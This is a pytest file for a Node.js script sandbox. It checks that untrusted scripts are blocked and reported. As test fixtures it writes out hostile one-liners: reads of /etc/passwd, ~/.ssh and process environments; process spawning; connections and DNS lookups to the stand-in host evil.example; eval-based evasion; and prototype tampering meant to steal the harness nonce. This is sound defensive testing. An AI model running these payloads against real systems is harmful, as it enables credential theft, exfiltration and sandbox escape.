"""What a script reaches for outside itself: stopped, named with its place, and this machine unharmed."""

from __future__ import annotations

import asyncio
import json
import os
import socket
from pathlib import Path

import pytest
from script_jobs import make_job, marked

from dbconn_tui.errors import NodeError
from dbconn_tui.runtime.hosts import AllowedHost
from dbconn_tui.runtime.job import ModuleTable, encode
from dbconn_tui.runtime.node import Node
from dbconn_tui.runtime.observation import Ending, Observation
from dbconn_tui.runtime.process import Isolation, NodeProcess, command_line
from dbconn_tui.runtime.runner import ScriptRunner
from dbconn_tui.runtime.verdict import Answer, Contact, Run, Verdict

pytestmark = pytest.mark.anyio

HOME = str(Path.home())


async def run_marked(node: Node, script: str, *, kind: str = "verify", **changes: object) -> tuple[Run, int, int]:
    """A run of the script, and the line and column of its mark."""
    text, line, column = marked(script)
    async with ScriptRunner(node, spare=False) as runner:
        return await runner.run(make_job(kind, text, **changes)), line, column


DENIED = {
    "read": (
        "(e, cb) => { try { require('fs').‸readFileSync('/etc/passwd'); } catch {} cb(null, true); }",
        "/etc/passwd",
    ),
    "read with a callback": ("(e, cb) => require('fs').‸readFile('/etc/passwd', () => cb(null, true))", "/etc/passwd"),
    "read by a promise": (
        "async (e, cb) => { await require('fs/promises').‸readFile('/etc/passwd').catch(() => 0); cb(null, true); }",
        "/etc/passwd",
    ),
    "read not caught": ("(e, cb) => { require('node:fs').‸readFileSync('/etc/passwd'); }", "/etc/passwd"),
    "home": (
        f"(e, cb) => {{ try {{ require('fs').‸readdirSync('{HOME}/.ssh'); }} catch {{}} cb(null, true); }}",
        ".ssh",
    ),
    "parent's environment": (
        "(e, cb) => { try { require('fs').‸readFileSync(`/proc/${process.ppid}/environ`); } catch {} cb(null, true); }",
        "/environ",
    ),
    "spawn": ("(e, cb) => { try { require('child_process').‸spawn('id'); } catch {} cb(null, true); }", "process"),
    "exec": ("(e, cb) => { try { require('child_process').‸execSync('id'); } catch {} cb(null, true); }", "process"),
    "thread": (
        "(e, cb) => { const w = require('worker_threads'); try { ‸new w.Worker('/x.js'); } catch {} cb(null, true); }",
        "thread",
    ),
    "kill": ("(e, cb) => { try { process.‸kill(process.ppid); } catch {} cb(null, true); }", "process"),
    "listen": (
        "(e, cb) => { try { require('net').createServer().‸listen(0); } catch {} cb(null, true); }",
        "listening",
    ),
    "UDP": ("(e, cb) => { try { require('dgram').‸createSocket('udp4'); } catch {} cb(null, true); }", "UDP"),
}


@pytest.mark.parametrize("name", DENIED)
async def test_refusal_is_named_even_when_the_script_swallows_it(each_node: Node, name: str) -> None:
    script, words = DENIED[name]
    run, line, column = await run_marked(each_node, script)
    assert run.verdict is Verdict.DENIED, run.problems
    problem = next(one for one in run.problems if one.rule == "sandbox-denied")
    assert (problem.place.line, problem.place.column) == (line, column)
    assert words in problem.message


async def test_nothing_is_written(each_node: Node, tmp_path: Path) -> None:
    target = tmp_path / "written"
    script = f"(e, cb) => {{ try {{ require('fs').‸writeFileSync('{target}', 'x'); }} catch {{}} cb(null, true); }}"
    run, line, column = await run_marked(each_node, script)
    assert run.verdict is Verdict.DENIED
    assert not target.exists()
    assert (run.problems[0].place.line, run.problems[0].place.column) == (line, column)


async def test_environment_holds_nothing_of_this_machine(each_node: Node, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DBCONN_SECRET_X", "host-secret-value")
    script = "(e, cb) => { console.log(JSON.stringify(process.‸env), process.argv.length); cb(null, true); }"
    run, line, column = await run_marked(each_node, script)
    assert "host-secret-value" not in repr(run)
    assert HOME not in run.logs[0].text
    assert set(json.loads(run.logs[0].text.rpartition(" ")[0])) <= {"PATH", "HOME", "LANG", "TZ"}
    problem = next(one for one in run.problems if one.rule == "environment-read")
    assert (problem.place.line, problem.place.column) == (line, column)


CONNECTS = {
    "net": "(e, cb) => { require('net').‸connect(4444, 'evil.example').on('error', (x) => cb(x)); }",
    "tls": "(e, cb) => { require('tls').‸connect(4444, 'evil.example').on('error', (x) => cb(x)); }",
    "http": "(e, cb) => { require('http').‸get('http://evil.example:4444').on('error', (x) => cb(x)); }",
    "https": "(e, cb) => { require('https').‸get('https://evil.example:4444').on('error', (x) => cb(x)); }",
    "fetch": "(e, cb) => { ‸fetch('https://evil.example:4444').catch((x) => cb(x.cause)); }",
    "built-in module": (
        "(e, cb) => { const get = process.getBuiltinModule || require;"
        " get('net').‸connect(4444, 'evil.example').on('error', (x) => cb(x)); }"
    ),
    "new socket": "(e, cb) => { new (require('net').Socket)().‸connect(4444, 'evil.example').on('error', cb); }",
    "swallowed": "(e, cb) => { require('net').‸connect(4444, 'evil.example').on('error', () => cb(null, true)); }",
}


@pytest.mark.parametrize("name", CONNECTS)
async def test_host_that_is_not_allowed(each_node: Node, name: str) -> None:
    run, line, column = await run_marked(each_node, CONNECTS[name])
    assert run.verdict is Verdict.HOST_NOT_ALLOWED, run.problems
    problem = next(one for one in run.problems if one.rule == "host-not-allowed")
    assert (problem.place.line, problem.place.column) == (line, column)
    assert "evil.example:4444" in problem.message
    assert run.contacts == (Contact("evil.example", 4444, False),)


ROUNDABOUT = {
    "WebSocket": "(e, cb) => { new (globalThis.WebSocket || require('net').connect)('ws://evil.example:4444'); }",
    "EventSource": "(e, cb) => { new (globalThis.EventSource || require('net').connect)('http://evil.example:4444'); }",
    "import in a function": (
        "async (e, cb) => { const net = await new Function('return import(\"node:net\")')();"
        " net.connect(4444, 'evil.example').on('error', cb); }"
    ),
    "import in eval": (
        "async (e, cb) => { const net = await (0, eval)('import(\"node:net\")');"
        " net.connect(4444, 'evil.example').on('error', cb); }"
    ),
}


@pytest.mark.parametrize("name", ROUNDABOUT)
async def test_roundabout_ways_reach_no_host(each_node: Node, name: str, silent_port: int) -> None:
    script = ROUNDABOUT[name].replace("evil.example:4444", f"127.0.0.1:{silent_port}")
    script = script.replace("4444, 'evil.example'", f"{silent_port}, '127.0.0.1'")
    run, _, _ = await run_marked(each_node, script, hosts=(), limit=1.0)
    assert not run.kept
    assert not any(contact.allowed for contact in run.contacts)
    assert run.verdict in (Verdict.HOST_NOT_ALLOWED, Verdict.UNHANDLED_REJECTION, Verdict.THREW), run.problems


async def test_unix_socket_is_a_host_too(node: Node, tmp_path: Path) -> None:
    script = f"(e, cb) => {{ require('net').connect('{tmp_path}/s').on('error', (x) => cb(x)); }}"
    run, _, _ = await run_marked(node, script)
    assert run.verdict is Verdict.HOST_NOT_ALLOWED


async def test_contacts_are_listed_and_an_open_connection_is_a_leak(each_node: Node, silent_port: int) -> None:
    script = f"""
        (e, cb) => {{
          const socket = require('net').‸connect({silent_port}, 'localhost');
          socket.on('connect', () => cb(null, true));
        }}
        """
    run, line, column = await run_marked(each_node, script)
    assert run.verdict is Verdict.OPEN_HANDLES
    problem = next(one for one in run.problems if one.rule == "db-connection-leak")
    assert (problem.place.line, problem.place.column) == (line, column)
    assert f"localhost:{silent_port}" in problem.message
    assert run.contacts == (Contact("localhost", silent_port, True),)


async def test_store_that_hangs_is_named(node: Node, silent_port: int) -> None:
    script = f"(e, cb) => {{ require('net').‸connect({silent_port}, '127.0.0.1').on('data', () => cb(null, true)); }}"
    run, line, column = await run_marked(node, script, limit=0.4)
    assert run.verdict is Verdict.TIMEOUT
    assert f"127.0.0.1:{silent_port}" in run.problems[0].message
    assert (run.problems[0].place.line, run.problems[0].place.column) == (line, column)


async def test_port_that_is_not_the_allowed_one(node: Node, silent_port: int) -> None:
    script = f"(e, cb) => {{ require('net').connect({silent_port}, '127.0.0.1').on('error', () => cb(null, true)); }}"
    run, _, _ = await run_marked(node, script, hosts=(AllowedHost("127.0.0.1", silent_port + 1),))
    assert run.verdict is Verdict.HOST_NOT_ALLOWED


MEMORY = {
    "objects": "‸(e, cb) => { const all = []; for (;;) all.push(new Array(1e6).fill(1.5)); }",
    "buffers": "(e, cb) => { const all = []; for (;;) all.push(Buffer.‸alloc(25e7, 1)); }",
    "one buffer": "(e, cb) => { Buffer.‸alloc(1e10, 1); cb(null, true); }",
}


@pytest.mark.skipif(
    os.name != "posix" or not Path("/proc").is_dir(), reason="memory beside the heap is capped on Linux"
)
@pytest.mark.parametrize("name", MEMORY)
async def test_ten_gigabytes_are_not_to_be_had(each_node: Node, name: str) -> None:
    run, line, column = await run_marked(each_node, MEMORY[name], limit=15.0)
    assert run.verdict is Verdict.OUT_OF_MEMORY, (run.problems, run.logs)
    assert (run.problems[0].place.line, run.problems[0].place.column) == (line, column)


async def test_endless_output_is_cut(node: Node) -> None:
    run, _, _ = await run_marked(node, "(e, cb) => { for (let i = 0; i < 5000; i++) console.log(i); cb(null, true); }")
    assert run.verdict is Verdict.OK
    assert len(run.logs) < 1000
    assert any(problem.rule == "too-much-output" for problem in run.problems)


async def observe_on_stdout(node: Node, script: str) -> Observation:
    """What is seen of a script that writes to the descriptor its own events come on."""
    process = await NodeProcess.start(node, Isolation(), own_channel=False)
    job = make_job("verify", script)
    try:
        return await process.run(encode(job, "nonce", ModuleTable(), job.text), "nonce", 20.0)
    finally:
        await process.close()


async def test_flood_on_the_channel_is_stopped(node: Node) -> None:
    script = "(e, cb) => { const chunk = Buffer.alloc(1 << 20, 'x'); for (;;) require('fs').writeSync(1, chunk); }"
    assert (await observe_on_stdout(node, script)).ending is Ending.FLOOD


async def test_events_without_the_nonce_count_for_nothing(node: Node) -> None:
    script = """(e, cb) => {
      const lie = '\\n{"nonce":"guess","event":{"type":"callback"}}\\n{"event":{"type":"finished"}}\\n';
      require('fs').writeSync(1, lie);
      cb(null, true);
    }"""
    observation = await observe_on_stdout(node, script)
    assert (observation.ending, len(observation.calls)) == (Ending.DRAINED, 1)


STEALS = {
    "toJSON": "Object.prototype.toJSON = function () { tell(this.nonce); return this; };",
    "setter": "Object.defineProperty(Object.prototype, 'nonce', { set(value) { tell(value); }, configurable: true });",
    "Buffer": "const from = Buffer.from; Buffer.from = (...p) => { tell(String(p[0])); return from(...p); };",
    "decoder": (
        "const { decode } = TextDecoder.prototype;"
        " TextDecoder.prototype.decode = function (...p) { const t = decode.apply(this, p); tell(t); return t; };"
    ),
    "encoder": (
        "const { encode } = TextEncoder.prototype;"
        " TextEncoder.prototype.encode = function (t) { tell(t); return encode.call(this, t); };"
    ),
    "JSON": "JSON.parse = JSON.stringify = (t) => { tell(t); return '{}'; };",
    "stack": (
        "Error.prepareStackTrace = (_, all) => { all.forEach((one) => tell(one.getThis() || one.getFunction())); };"
    ),
    "cache": "for (const one of Object.values(require('module')._cache)) tell(one.exports);",
    "main": "for (const one of (process.mainModule || { children: [] }).children) tell(one.exports);",
    "caller": "tell(arguments.callee.caller);",
    "heap": "try { require('v8').getHeapSnapshot(); tell('a snapshot'); } catch {}",
    "inspector": "try { new (require('inspector').Session)().connect(); tell('a session'); } catch {}",
}
"""Ways to what the harness knows: `tell` gets whatever is found."""


async def test_harness_gives_nothing_away_to_a_script_that_tampers(each_node: Node) -> None:
    async with ScriptRunner(each_node, spare=False) as runner:
        for name, way in STEALS.items():
            script = f"""function verify(email, callback) {{
              globalThis.told = globalThis.told || [];
              const tell = (found) => {{ if (found) globalThis.told.push(found); }};
              {way}
              callback(null, true);
            }}"""
            again = "(e, cb) => { Object.freeze(globalThis.told); cb(null, globalThis.told.length > 0); }"
            async with runner.container() as container:
                first = await container.run(make_job("verify", script))
                second = await container.run(make_job("verify", again))
            assert first.answer is Answer.DONE, (name, first.problems)
            assert second.answer is Answer.NOT_DONE, (name, second.problems)


async def test_tampering_opens_no_host(each_node: Node) -> None:
    script = """(e, cb) => {
      Array.prototype.some = Array.prototype.includes = String.prototype.endsWith = String.prototype.startsWith =
        Set.prototype.has = Map.prototype.get = () => true;
      require('net').‸connect(4444, 'evil.example').on('error', () => cb(null, true));
    }"""
    run, line, column = await run_marked(each_node, script)
    assert run.verdict is Verdict.HOST_NOT_ALLOWED
    assert (run.problems[0].place.line, run.problems[0].place.column) == (line, column)


LOOK_UPS = {
    "callback": "(e, cb) => require('dns').‸resolveTxt('secret.evil.example', (error) => cb(error))",
    "promise": "(e, cb) => require('dns/promises').‸lookup('secret.evil.example').catch((error) => cb(error))",
    "resolver": (
        "(e, cb) => new (require('dns').Resolver)().‸resolve4('_a._tcp.secret.evil.example', (error) => cb(error))"
    ),
}


@pytest.mark.parametrize("name", LOOK_UPS)
async def test_name_servers_are_asked_for_no_other_host(each_node: Node, name: str) -> None:
    run, line, column = await run_marked(each_node, LOOK_UPS[name])
    assert run.verdict is Verdict.HOST_NOT_ALLOWED, run.problems
    assert (run.problems[0].place.line, run.problems[0].place.column) == (line, column)
    assert run.contacts == (Contact("secret.evil.example", 0, False),)


async def test_script_that_ends_what_the_harness_waits_for_is_told(node: Node) -> None:
    run, _, _ = await run_marked(node, "(e, cb) => { process.removeAllListeners(); }")
    assert run.verdict is Verdict.EXITED


async def test_no_process_is_left(node: Node) -> None:
    process = await NodeProcess.start(node, Isolation())
    group = process._process.pid
    await process.close()
    with pytest.raises(ProcessLookupError):
        os.killpg(group, 0)


async def test_cancelled_run_leaves_no_process(node: Node) -> None:
    process = await NodeProcess.start(node, Isolation())
    job = make_job("verify", "(e, cb) => { for (;;); }")
    running = asyncio.ensure_future(process.run(encode(job, "nonce", ModuleTable(), job.text), "nonce", 20.0))
    done, _ = await asyncio.wait([running], timeout=0.3)
    assert not done
    running.cancel()
    with pytest.raises(asyncio.CancelledError):
        await running
    with pytest.raises(ProcessLookupError):
        os.killpg(process._process.pid, 0)


async def test_own_host_is_free_after_an_endless_loop(node: Node) -> None:
    run, _, _ = await run_marked(node, "(e, cb) => { for (;;); }", limit=0.2)
    assert run.verdict is Verdict.TIMEOUT
    assert run.wall < 5_000
    with socket.create_server(("127.0.0.1", 0)):
        pass


def test_binary_without_a_permission_model_is_refused(node: Node) -> None:
    bare = Node(node.path, "20.0.0", frozenset())
    with pytest.raises(NodeError, match="no permission model"):
        command_line(bare, Isolation(), 3)
    assert "--permission" not in command_line(bare, Isolation(permission_model=False), 3)
